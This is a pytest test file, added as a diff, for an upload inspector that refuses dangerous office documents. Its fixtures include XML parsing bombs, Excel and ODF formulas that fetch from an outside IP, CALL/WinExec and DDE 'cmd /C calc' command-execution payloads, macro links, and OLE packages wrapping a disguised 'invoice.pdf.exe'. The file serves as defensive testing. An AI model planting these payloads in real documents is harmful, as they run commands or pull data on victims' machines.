@@ -1,0 +1,517 @@
+"""The evidence intake's remaining holes (ADR 24): what one document may cost to parse (elements,
+attributes, processing instructions and long tags, shared across its parts), spreadsheet
+formulas that fetch from outside, ODF DDE and links that run commands, and OLE objects embedded
+in a package. Each refusal has a harmless look-alike beside it that is taken."""
+
+from __future__ import annotations
+
+import io
+import random
+import struct
+import uuid
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from tests import evidence_files as files
+from tradehall.membership.evidence import EvidenceRefused, inspect, inspection
+from tradehall.membership.evidence.inspection import (
+    MAX_XML_ELEMENTS,
+    MAX_XML_RUN_BYTES,
+)
+
+W = files.WORD
+ODS = "application/vnd.oasis.opendocument.spreadsheet"
+ODT = "application/vnd.oasis.opendocument.text"
+
+
+def _inspect(tmp_path: Path, data: bytes, name: str = "upload.docx") -> str:
+    path = tmp_path / name
+    path.write_bytes(data)
+    return inspect(path).extension
+
+
+def _refusal(tmp_path: Path, data: bytes, name: str = "upload.docx") -> EvidenceRefused:
+    path = tmp_path / name
+    path.write_bytes(data)
+    with pytest.raises(EvidenceRefused) as refused:
+        inspect(path)
+    assert refused.value.status == 422
+    return refused.value
+
+
+def _noise(size: int) -> tuple[str, bytes]:
+    """A picture's worth of random bytes: keeps a package of repetitive XML under the zip
+    bomb ratio, so what is tested is the parsing cost, not the ratio."""
+    return ("word/media/noise.bin", random.Random(size).randbytes(size))
+
+
+def _header(n: int, body: str) -> tuple[str, bytes]:
+    return (f"word/header{n}.xml", f"<w:hdr {W}>{body}</w:hdr>".encode())
+
+
+# --- 1. What one document may cost to parse: elements, attributes, long tags ----------------------
+
+
+def test_processing_instructions_past_the_element_cap_across_parts_are_refused(
+    tmp_path: Path,
+) -> None:
+    """Each part holds just over half the cap (a processing instruction counts as an element,
+    and costs a callback like one); neither alone passes it, together they do."""
+    half = "<?a?>" * (MAX_XML_ELEMENTS // 2 + 1)
+    data = files.docx(_header(1, half), _header(2, half), _noise(256 * 1024))
+    assert "elements" in _refusal(tmp_path, data).reason
+
+
+def test_elements_count_across_parts_and_a_document_within_the_cap_is_taken(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(inspection, "MAX_XML_ELEMENTS", 1_500)
+    part = "<w:p/>" * 1_000
+    assert _inspect(tmp_path, files.docx(_header(1, part))) == "docx"
+    assert "elements" in _refusal(tmp_path, files.docx(_header(1, part), _header(2, part))).reason
+
+
+def test_attributes_count_across_parts_and_a_document_within_the_cap_is_taken(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(inspection, "MAX_XML_ATTRIBUTES", 1_500)
+    part = '<w:p w:a="1" w:b="2"/>' * 500
+    assert _inspect(tmp_path, files.docx(_header(1, part))) == "docx"
+    refused = _refusal(tmp_path, files.docx(_header(1, part), _header(2, part)))
+    assert "attributes" in refused.reason
+
+
+def test_a_tag_longer_than_the_run_limit_is_refused_before_it_is_parsed(tmp_path: Path) -> None:
+    """One start tag of a hundred thousand attributes costs expat seconds before any handler
+    could count them."""
+    count = MAX_XML_RUN_BYTES // 10 + 1
+    attributes = "".join(f' a{n:07x}=""' for n in range(count))
+    data = files.docx(_header(1, f"<w:p{attributes}/>"), _noise(128 * 1024))
+    assert "without markup" in _refusal(tmp_path, data).reason
+
+
+def test_a_long_attribute_value_within_the_run_limit_is_taken(tmp_path: Path) -> None:
+    """VML shapes carry their drawing as base64 in o:gfxdata: tens of KiB, at times more."""
+    gfxdata = random.Random(7).randbytes(400 * 1024).hex()
+    shape = (
+        '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
+        f'xmlns:o="urn:schemas-microsoft-com:office:office" o:gfxdata="{gfxdata}"/></w:pict></w:r>'
+    )
+    assert _inspect(tmp_path, files.word(shape)) == "docx"
+
+
+# --- 2. Formulas that fetch from outside ----------------------------------------------------------
+
+
+def _workbook(sheet: str, workbook: str = "") -> bytes:
+    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+    return files.zip_of(
+        [
+            ("[Content_Types].xml", files.content_types(("/xl/workbook.xml", files.XLSX_MAIN))),
+            ("_rels/.rels", files.RELS),
+            ("xl/workbook.xml", f"<workbook {main}>{workbook}</workbook>".encode()),
+            ("xl/worksheets/sheet1.xml", f"<worksheet {main}>{sheet}</worksheet>".encode()),
+        ]
+    )
+
+
+def _cell(formula: str) -> bytes:
+    return _workbook(f'<sheetData><row r="1"><c r="A1"><f>{formula}</f></c></row></sheetData>')
+
+
+URL = "&quot;http://203.0.113.9/x&quot;"
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        _cell('_xlfn.WEBSERVICE("http://203.0.113.9/x?q="&amp;A2)'),
+        _cell('_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://203.0.113.9/feed"),"//item")'),
+        _cell('webservice ("\\\\203.0.113.9\\share\\x")'),
+        _cell('_xlfn.IMAGE("https://203.0.113.9/logo.png")'),
+        _cell('RTD("attacker.progid","203.0.113.9","topic")'),
+        _cell('CALL("kernel32","WinExec","JCJ","calc.exe",0)'),
+        _cell('REGISTER.ID("kernel32","WinExec","JCJ")'),
+        _cell('IMPORTXML("http://203.0.113.9/x","//a")'),
+        _cell('IMPORTRANGE("https://docs.google.com/spreadsheets/d/x","A1:B2")'),
+        _cell('__xludf.DUMMYFUNCTION("IMPORTDATA(""http://203.0.113.9/x.csv"")")'),
+        _workbook(
+            "<sheetData/>",
+            '<definedNames><definedName name="Go">_xlfn.WEBSERVICE("http://203.0.113.9/")'
+            "</definedName></definedNames>",
+        ),
+        _workbook(
+            '<sheetData/><dataValidations count="1"><dataValidation type="custom" sqref="A1">'
+            '<formula1>ISNUMBER(_xlfn.WEBSERVICE("http://203.0.113.9/"))</formula1>'
+            "</dataValidation></dataValidations>"
+        ),
+    ],
+    ids=[
+        "webservice",
+        "filterxml-of-webservice",
+        "webservice-unc-lower-case",
+        "image",
+        "rtd",
+        "call",
+        "register-id",
+        "importxml",
+        "importrange",
+        "google-dummy-function",
+        "defined-name",
+        "data-validation",
+    ],
+)
+def test_an_excel_formula_that_fetches_from_outside_is_refused(tmp_path: Path, data: bytes) -> None:
+    assert "fetches from outside" in _refusal(tmp_path, data, "upload.xlsx").reason
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        _cell('_xlfn.FILTERXML("&lt;a&gt;&lt;b&gt;1&lt;/b&gt;&lt;/a&gt;","//b")'),
+        _cell('"Use WEBSERVICE(url) or IMAGE(url) at your own risk"'),
+        _cell("'Image (2)'!A1+'Call log (2025)'!B2+SUM(Images)"),
+        _cell("SUM(Table1[[#This Row],[Image (url)]])"),
+        _cell('HYPERLINK("https://example.org/report","Our report")'),
+        _cell("MYIMAGE(A1)+CALLS+IMAGE_COUNT"),
+        _cell('__xludf.DUMMYFUNCTION("SPLIT(A1,"","")")'),
+        _workbook(
+            '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>=WEBSERVICE("http://x")</t>'
+            "</is></c></row></sheetData>"
+        ),
+    ],
+    ids=[
+        "filterxml-of-a-string",
+        "names-in-a-string",
+        "quoted-sheet-names",
+        "table-column",
+        "hyperlink",
+        "longer-names",
+        "google-other-function",
+        "text-cell",
+    ],
+)
+def test_an_excel_formula_that_only_looks_like_one_that_fetches_is_taken(
+    tmp_path: Path, data: bytes
+) -> None:
+    assert _inspect(tmp_path, data, "upload.xlsx") == "xlsx"
+
+
+ODF_NAMESPACES = (
+    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
+    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
+    'xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" '
+    'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
+    'xmlns:xlink="http://www.w3.org/1999/xlink"'
+)
+
+
+def _odf(mimetype: str, body: str, *extra: tuple[str, bytes]) -> bytes:
+    content = (
+        f"<office:document-content {ODF_NAMESPACES}><office:body>{body}</office:body>"
+        "</office:document-content>"
+    ).encode()
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as package:
+        package.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
+        package.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
+        package.writestr("META-INF/manifest.xml", b"<manifest:manifest/>")
+        for name, data in extra:
+            package.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
+    return out.getvalue()
+
+
+def _ods(cells: str, before: str = "") -> bytes:
+    return _odf(
+        ODS,
+        f'<office:spreadsheet>{before}<table:table table:name="Sheet1"><table:table-row>'
+        f"{cells}</table:table-row></table:table></office:spreadsheet>",
+    )
+
+
+def _formula(formula: str) -> str:
+    return f'<table:table-cell table:formula="{formula}" office:value-type="float"/>'
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        _ods(_formula(f"of:=WEBSERVICE({URL})")),
+        _ods(_formula(f"of:=COM.MICROSOFT.WEBSERVICE({URL})")),
+        _ods(_formula(f"of:=FILTERXML(WEBSERVICE({URL});&quot;//a&quot;)")),
+        _ods(_formula("of:=DDE(&quot;soffice&quot;;&quot;C:\\x.ods&quot;;&quot;A1&quot;)")),
+        _ods(_formula("msoxl:=cmd|' /C calc'!A0")),
+        _ods(
+            '<table:table-cell table:content-validation-name="v1"/>',
+            '<table:content-validations><table:content-validation table:name="v1" '
+            f'table:condition="of:is-true-formula(WEBSERVICE({URL}))"/>'
+            "</table:content-validations>",
+        ),
+        _ods(
+            "<table:table-cell/>",
+            '<table:named-expressions><table:named-expression table:name="Go" '
+            f'table:expression="of:=WEBSERVICE({URL})"/></table:named-expressions>',
+        ),
+        _ods(
+            "<table:table-cell/>",
+            "<calcext:conditional-formats><calcext:conditional-format><calcext:condition "
+            f'calcext:apply-style-name="Bad" calcext:value="formula-is(WEBSERVICE({URL}))"/>'
+            "</calcext:conditional-format></calcext:conditional-formats>",
+        ),
+    ],
+    ids=[
+        "webservice",
+        "microsoft-webservice",
+        "filterxml-of-webservice",
+        "dde-function",
+        "excel-grammar-dde",
+        "validation",
+        "named-expression",
+        "conditional-format",
+    ],
+)
+def test_an_odf_formula_that_fetches_from_outside_or_runs_dde_is_refused(
+    tmp_path: Path, data: bytes
+) -> None:
+    reason = _refusal(tmp_path, data, "upload.ods").reason
+    assert "fetches from outside" in reason or "DDE" in reason
+
+
+def test_ordinary_odf_formulas_and_conditions_are_taken(tmp_path: Path) -> None:
+    data = _ods(
+        _formula("of:=SUM([.A1:.A3])+[$'Image (2)'.A1]")
+        + _formula("of:=HYPERLINK(&quot;https://example.org&quot;;&quot;site&quot;)")
+        + '<table:table-cell office:value-type="string" office:string-value="WEBSERVICE(x)">'
+        "<text:p>=WEBSERVICE(&quot;http://203.0.113.9/&quot;) | DDE</text:p></table:table-cell>",
+        '<table:content-validations><table:content-validation table:name="v1" '
+        'table:condition="of:cell-content-is-whole-number() and cell-content()&gt;0"/>'
+        "</table:content-validations>",
+    )
+    assert _inspect(tmp_path, data, "upload.ods") == "ods"
+    # A Writer condition: '|' is its "or", not a program (only Excel's grammar reads it so).
+    writer = _odf(
+        ODT,
+        '<office:text><text:p><text:conditional-text text:condition="ooow:Page | 1" '
+        'text:string-value-if-true="a" text:string-value-if-false="b"/></text:p></office:text>',
+    )
+    assert _inspect(tmp_path, writer, "upload.odt") == "odt"
+
+
+# --- 3. ODF: DDE, and links that run commands ---------------------------------------------------
+
+DDE_ATTRIBUTES = (
+    'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x" '
+    'office:automatic-update="true"'
+)
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        _odf(
+            ODT,
+            "<office:text><text:dde-connection-decls><text:dde-connection-decl "
+            f'office:name="x" {DDE_ATTRIBUTES}/></text:dde-connection-decls>'
+            '<text:p>Total: <text:dde-connection text:connection-name="x">1</text:dde-connection>'
+            "</text:p></office:text>",
+        ),
+        _odf(
+            ODT,
+            '<office:text><text:section text:name="S1">'
+            f"<office:dde-source {DDE_ATTRIBUTES}/></text:section></office:text>",
+        ),
+        _odf(
+            ODS,
+            "<office:spreadsheet><table:dde-links><table:dde-link>"
+            f"<office:dde-source {DDE_ATTRIBUTES}/><table:table/></table:dde-link>"
+            "</table:dde-links></office:spreadsheet>",
+        ),
+    ],
+    ids=["text-connection", "section-source", "sheet-link"],
+)
+def test_odf_dde_is_refused(tmp_path: Path, data: bytes) -> None:
+    assert "DDE" in _refusal(tmp_path, data, "upload.odt").reason
+
+
+def _link(href: str) -> bytes:
+    return _odf(
+        ODT,
+        f'<office:text><text:p><text:a xlink:type="simple" xlink:href="{href}">Open</text:a>'
+        "</text:p></office:text>",
+    )
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        _link(".uno:OpenHyperlink?URL:string=file:///C:/Windows/System32/calc.exe"),
+        _link("  .UNO:Quit"),
+        _link("%2Euno:Quit"),
+        _link("slot:5500"),
+        _link("service:com.sun.star.frame.Desktop"),
+        _link("macro:Standard.Module1.Main"),
+        _odf(
+            ODT,
+            '<office:text><text:p><text:execute-macro text:name="Standard.Module1.Main">Run'
+            "</text:execute-macro></text:p></office:text>",
+        ),
+        _odf(
+            ODT,
+            '<office:text><office:forms><form:form><form:button form:name="b" '
+            'form:button-type="url" xlink:href=".uno:RunMacro"/></form:form></office:forms>'
+            "</office:text>",
+        ),
+    ],
+    ids=[
+        "uno",
+        "uno-upper-case",
+        "uno-percent-encoded",
+        "slot",
+        "service",
+        "macro",
+        "execute-macro-field",
+        "form-button",
+    ],
+)
+def test_an_odf_link_that_runs_a_command_or_macro_is_refused(tmp_path: Path, data: bytes) -> None:
+    assert "macros or scripts" in _refusal(tmp_path, data, "upload.odt").reason
+
+
+def test_odf_links_within_or_to_the_web_and_text_about_dde_are_taken(tmp_path: Path) -> None:
+    data = _odf(
+        ODT,
+        '<office:text><text:dde-connection-decls/><text:p text:style-name="DDE link">'
+        "Updating office:dde-source links, or the .uno:Open command, is not done here. "
+        '<text:a xlink:href="#Heading 2">See below</text:a>, '
+        '<text:a xlink:href="https://example.org/help/.uno:Open">the manual</text:a>, '
+        '<text:a xlink:href="Pictures/uno.png">the figure</text:a>.</text:p></office:text>',
+    )
+    assert _inspect(tmp_path, data, "upload.odt") == "odt"
+
+
+# --- 4. OLE objects embedded in a package ---------------------------------------------------------
+
+PACKAGE = "0003000C-0000-0000-C000-000000000046"
+EQUATION_3 = "0002CE02-0000-0000-C000-000000000046"
+EXCEL_SHEET_8 = "00020820-0000-0000-C000-000000000046"
+
+
+def _object(tree: dict[str, object], clsid: str | None = None) -> bytes:
+    """A compound file as Office embeds it, its root storage of class `clsid`. The builder
+    writes the root entry first in the directory (sector 1): its CLSID is at 0x50 in it."""
+    data = bytearray(files.ole(tree))
+    if clsid is not None:
+        at = 2 * 512 + 0x50
+        data[at : at + 16] = uuid.UUID(clsid).bytes_le
+    return bytes(data)
+
+
+def _comp_obj(user_type: str, prog_id: str) -> bytes:
+    def string(text: str) -> bytes:
+        encoded = text.encode("latin-1") + b"\0"
+        return struct.pack("<I", len(encoded)) + encoded
+
+    header = struct.pack("<HHII", 1, 0xFFFE, 0x0A03, 0xFFFFFFFF) + bytes(16)
+    return header + string(user_type) + struct.pack("<I", 0) + string(prog_id)
+
+
+def _ole_stream(*, linked: bool = False) -> bytes:
+    return struct.pack("<IIIII", 0x02000001, 1 if linked else 0, 0, 0, 0)
+
+
+NATIVE = b"\x40\0\0\0\x02\0invoice.pdf.exe\0C:\\tmp\\invoice.pdf.exe\0\0\0\0\0MZ\x90\0"
+
+
+def _docx_embedding(data: bytes, name: str = "word/embeddings/oleObject1.bin") -> bytes:
+    rels = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="rId5" Target="embeddings/oleObject1.bin" Type="http://schemas.'
+        b'openxmlformats.org/officeDocument/2006/relationships/oleObject"/></Relationships>'
+    )
+    return files.docx((name, data), ("word/_rels/document.xml.rels", rels))
+
+
+@pytest.mark.parametrize(
+    ("data", "says"),
+    [
+        (
+            _docx_embedding(
+                _object(
+                    {
+                        "\x01Ole10Native": NATIVE,
+                        "\x01CompObj": _comp_obj("OLE Package", "Package"),
+                        "\x01Ole": _ole_stream(),
+                    },
+                    PACKAGE,
+                )
+            ),
+            "embedded package",
+        ),
+        (_docx_embedding(_object({"\x01Ole10Native": NATIVE})), "embedded package"),
+        (_docx_embedding(_object({"Contents": b"x"}, PACKAGE)), "embedded package"),
+        (
+            _docx_embedding(_object({"\x01CompObj": _comp_obj("OLE Package", "Package")})),
+            "embedded package",
+        ),
+        (
+            _docx_embedding(_object({"Equation Native": b"\x1c\0"}, EQUATION_3)),
+            "Equation Editor",
+        ),
+        (
+            _docx_embedding(_object({"\x01Ole": _ole_stream(linked=True)}, EXCEL_SHEET_8)),
+            "linked object",
+        ),
+        (
+            _docx_embedding(
+                _object({"Workbook": b"x", "_VBA_PROJECT_CUR": {"VBA": {"dir": b"x"}}})
+            ),
+            "macros",
+        ),
+        (
+            _docx_embedding(_object({"\x01Ole10Native": NATIVE}), "word/media/image9.png"),
+            "embedded package",
+        ),
+        (
+            _odf(ODT, "<office:text/>", ("Object 1", _object({"\x01Ole10Native": NATIVE}))),
+            "embedded package",
+        ),
+    ],
+    ids=[
+        "package",
+        "native-stream-only",
+        "package-class-only",
+        "package-prog-id-only",
+        "equation-editor-3",
+        "linked-object",
+        "workbook-with-macros",
+        "package-named-as-a-picture",
+        "odf-package",
+    ],
+)
+def test_an_embedded_package_or_exploit_object_is_refused(
+    tmp_path: Path, data: bytes, says: str
+) -> None:
+    name = "upload.odt" if data[30:38] == b"mimetype" else "upload.docx"
+    assert says in _refusal(tmp_path, data, name).reason
+
+
+def test_embedded_workbooks_and_charts_are_taken(tmp_path: Path) -> None:
+    """An Excel 97 worksheet object (a table pasted into Word), a chart's workbook (an OOXML
+    package), and the printer settings Excel keeps as .bin: what ordinary documents embed."""
+    worksheet = _object(
+        {
+            "Workbook": b"\x09\x08",
+            "\x01CompObj": _comp_obj("Microsoft Excel 97-2003 Worksheet", "Excel.Sheet.8"),
+            "\x01Ole": _ole_stream(),
+        },
+        EXCEL_SHEET_8,
+    )
+    data = files.docx(
+        ("word/embeddings/oleObject1.bin", worksheet),
+        ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", files.xlsx()),
+        ("word/printerSettings/printerSettings1.bin", b"\0\x04HP LaserJet" + bytes(200)),
+    )
+    assert _inspect(tmp_path, data) == "docx"
